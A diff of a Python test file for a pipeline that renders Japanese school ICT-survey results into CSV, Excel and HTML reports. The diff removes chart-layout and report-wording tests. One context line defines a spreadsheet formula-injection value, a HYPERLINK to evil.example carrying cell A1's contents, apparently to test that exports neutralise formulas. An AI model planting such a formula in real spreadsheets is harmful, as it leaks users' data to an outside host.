@@ -7,12 +7,10 @@ import io
 import openpyxl
 import pytest
 
-from pipeline.catalogue.problems import LABELS, PROBLEMS
 from pipeline.render import RunInfo, csv_bytes, render_outputs
-from pipeline.render.report import bar_chart_svg, build_report, text_width
+from pipeline.render.report import build_report
 from pipeline.render.workbook import build_workbook
 from test_score import DEF, answers_for, run, school
-from text_metrics import SKIP_REASON, chart_faults, charts, fonts
 
 RUN = RunInfo(run_id="20261125-143000", generated_at=dt.datetime(2026, 11, 25, 14, 30), roster_source="schools.csv")
 EVIL_REMARK = '=HYPERLINK("http://evil.example/?"&A1,"クリック")'
@@ -301,72 +299,3 @@ def test_an_action_nobody_could_answer_keeps_its_row_with_empty_shares():
     io_devices = next(r for r in rows if r[1] and "入出力支援機器" in r[1])
     assert all(v is None for v in io_devices[3:-1])
 
-
-# ---------------------------------------------------------------- report: what is read on paper
-
-needs_fonts = pytest.mark.skipif(fonts() is None, reason=SKIP_REASON)
-
-
-def _faults(html: str) -> dict[str, list[str]]:
-    found: dict[str, list[str]] = {}
-    for chart in charts(html):
-        for kind, where in chart_faults(chart).items():
-            found.setdefault(kind, []).extend(where)
-    return found
-
-
-@needs_fonts
-def test_report_charts_put_no_label_over_a_bar_or_a_marker(report):
-    html, _ = report
-    assert len(charts(html)) == 3  # 小学校, 中学校 and the checklist
-    assert _faults(html) == {"value-overlaps": [], "text-overlaps": [], "outside": []}
-
-
-@needs_fonts
-def test_chart_labels_stay_clear_at_the_edges():
-    """Bars at 0 and 100 %, markers on the bar's end, at 0 and at 100 %, provisional marks, a hidden
-    figure and a long label: the places where a value used to be overprinted (89.3% read 「39.3%」)."""
-    rows = [{"label": "①自分で調べる", "rate": 100.0, "mark": "＊", "markers": [(100, "target"), (100, "national")]},
-            {"label": "②まとめ・発表・表現", "rate": 89.3, "mark": "", "markers": [(89.3, "baseline"), (90, "target")]},
-            {"label": "③", "rate": 0.0, "mark": "", "markers": [(0, "baseline"), (1, "target")]},
-            {"label": "④児童生徒同士のやりとり", "rate": None, "mark": "", "markers": [(55, "target")]},
-            {"label": "⑤特性・進度に合わせた課題（とても長い場面の名前でも）", "rate": 81.1, "mark": "＊",
-             "markers": [(81.1, "national"), (85.0, "baseline")]}]
-    legend = [("result", "結果"), ("baseline", "R6現状"), ("target", "R7市目標"), ("national", "国KPI（R8）")]
-    html = str(bar_chart_svg("小学校：場面ごとの端末活用目標", legend, rows))
-    assert _faults(html) == {"value-overlaps": [], "text-overlaps": [], "outside": []}
-    values = [t.text for t in charts(html)[0].texts if t.kind == "value"]
-    assert values == ["100.0%＊", "89.3%", "0.0%", "—", "81.1%＊"]
-
-
-@needs_fonts
-def test_the_reports_width_estimate_is_never_narrower_than_the_font(report):
-    """The charts are laid out without fonts (the pipeline runs anywhere); the estimate must hold."""
-    from text_metrics import width
-    html, _ = report
-    texts = [t for c in charts(html) for t in c.texts]
-    samples = [t.text for t in texts] + ["100.0%＊", "0.0%", "—", "国KPI（R8）", "R7市目標", "ABCDEFGHIJKLMNOPQRSTUVWXYZ",
-                                         "abcdefghijklmnopqrstuvwxyz", "0123456789%.,（）"]
-    too_narrow = [s for s in samples if text_width(s, 10) < width(s, 10)]
-    assert too_narrow == []
-
-
-def test_every_problem_code_has_a_japanese_label(report):
-    assert sorted(set(PROBLEMS) - set(LABELS)) == [] and sorted(set(LABELS) - set(PROBLEMS)) == []
-    html, md = report
-    # 付録2 names the problem, never its code.
-    assert "他の回答に比べて多すぎる値" in html and "他の回答に比べて多すぎる値" in md
-    assert "check-ratio-max" not in html and "check-ratio-max" not in md
-
-
-def test_report_reads_as_printed_for_people(report):
-    html, md = report
-    for text in (html, md):
-        assert "令和8年2月27日（金）" in text  # the deadline, in the template's date style
-        assert "2026年" not in text
-        assert "小数第2位を四捨五入" in text and "小数第1位を四捨五入" not in text
-        assert "schools.csv" not in text and "problems.csv" not in text
-        assert "集約結果_職員用.xlsx" in text
-        assert "% %" not in text and "%%" not in text
-        assert "教員1,040人" in text  # counts carry separators
-    assert "###" not in html  # in the Markdown it starts a heading
